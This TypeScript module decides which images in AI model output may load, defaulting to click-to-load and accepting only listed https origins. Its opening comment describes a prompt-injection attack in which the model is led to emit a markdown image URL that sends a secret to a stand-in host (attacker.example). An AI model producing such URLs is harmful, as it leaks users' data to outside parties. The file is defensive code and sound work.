// Which images in model output may load. An image URL is a request the model chooses: a prompt
// injection can put data in it (`![x](https://attacker.example/?q=SECRET)`) or aim it at the
// page's own origin, cookies and all. So by default nothing loads until the reader clicks;
// the site owner can name origins that load at once, or switch images off altogether.
//
// Frameworks set properties with whatever the page wrote: React 19 and Vue 3 pass the string
// "off", `""` for a bare attribute, booleans, null, arrays. Every value has one reading here,
// and anything that is not clearly a list of origins reads as "no origin": the safe side.

/** What the element does with images in model output. */
export interface ImagePolicy {
  /** No image at all: alt text only, nothing to click (`no-images`). */
  readonly off: boolean;
  /** Origins whose https images load at once; `'*'`: every https image. Others wait for a click. */
  readonly origins: '*' | readonly string[];
}

/** The default: every image waits for the reader's click. */
export const CLICK_TO_LOAD: ImagePolicy = Object.freeze({ off: false, origins: Object.freeze([]) });

/**
 * Reads a `noImages` value as HTML reads a boolean attribute: present (any string, `""`
 * included) or `true` means on. Only `false`, `null`, `undefined` and `0` mean off.
 */
export function readNoImages(value: unknown): boolean {
  return !(value === false || value === null || value === undefined || value === 0);
}

/**
 * Reads an `imageOrigins` value: `true` or `"*"` allows every https origin; a string of origins
 * separated by spaces or commas, or an array of them, allows those. Entries that are not an
 * `https://host[:port]` origin (`"off"`, `"none"`, `"0"`, a path, an `http:` origin) are ignored;
 * any other value (`false`, `null`, a number, an object) allows none.
 */
export function readImageOrigins(value: unknown): '*' | readonly string[] {
  if (value === true) return '*';
  const entries = typeof value === 'string' ? value.split(/[\s,]+/) : Array.isArray(value) ? value : [];
  const origins: string[] = [];
  for (const entry of entries) {
    if (typeof entry !== 'string') continue;
    if (entry.trim() === '*') return '*';
    const origin = httpsOrigin(entry.trim());
    if (origin && !origins.includes(origin)) origins.push(origin);
  }
  return origins;
}

/** The policy for a `noImages` and an `imageOrigins` value, each read as above. */
export function imagePolicy(noImages: unknown, imageOrigins: unknown): ImagePolicy {
  return { off: readNoImages(noImages), origins: readImageOrigins(imageOrigins) };
}

/** Whether two policies decide every image alike. */
export function samePolicy(a: ImagePolicy, b: ImagePolicy): boolean {
  if (a.off !== b.off) return false;
  if (a.origins === '*' || b.origins === '*') return a.origins === b.origins;
  return a.origins.length === b.origins.length && a.origins.every((origin, i) => origin === b.origins[i]);
}

/** `https://host[:port]` of an absolute https URL written as just that origin (a trailing `/` allowed). */
function httpsOrigin(text: string): string | undefined {
  if (!/^https:\/\/[^/?#\s]+\/?$/i.test(text)) return undefined;
  try {
    const url = new URL(text);
    return url.protocol === 'https:' && url.username === '' && url.password === '' ? url.origin : undefined;
  } catch {
    return undefined;
  }
}

/** The origin of an https URL, or undefined for any other URL. */
export function imageOrigin(src: string): string | undefined {
  const text = src.trim();
  if (!/^https:\/\//i.test(text)) return undefined;
  try {
    const url = new URL(text);
    return url.protocol === 'https:' ? url.origin : undefined;
  } catch {
    return undefined;
  }
}

/** Whether an image from `src` loads without a click under `policy`. */
export function loadsAtOnce(src: string, policy: ImagePolicy): boolean {
  if (policy.off) return false;
  const origin = imageOrigin(src);
  if (!origin) return false;
  return policy.origins === '*' || policy.origins.includes(origin);
}
